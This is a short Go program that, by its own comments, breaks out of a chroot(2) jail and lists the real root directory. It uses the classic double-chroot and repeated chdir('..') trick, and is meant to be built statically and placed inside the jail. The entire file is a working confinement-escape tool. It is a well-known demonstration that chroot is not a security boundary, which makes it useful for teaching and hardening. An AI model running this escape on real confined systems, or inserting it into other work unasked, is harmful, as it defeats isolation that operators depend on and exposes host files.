// Command escape leaves a root that only chroot(2) has made, and lists what is outside.
// Build it without libraries, CGO_ENABLED=0, and put it into the root.
package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	must("mkdir", os.MkdirAll("/tmp/below", 0o755))
	must("chroot", unix.Chroot("/tmp/below")) // the root moves down, and we stay where we are: outside
	for range 100 {
		must("chdir", unix.Chdir("..")) // up; only the root would stop us, and it is not above us
	}
	must("chroot", unix.Chroot("."))
	entries, err := os.ReadDir("/")
	must("read /", err)
	for _, entry := range entries {
		fmt.Println(entry.Name())
	}
}

func must(what string, err error) {
	if err != nil {
		fmt.Println(what+":", err)
		os.Exit(1)
	}
}
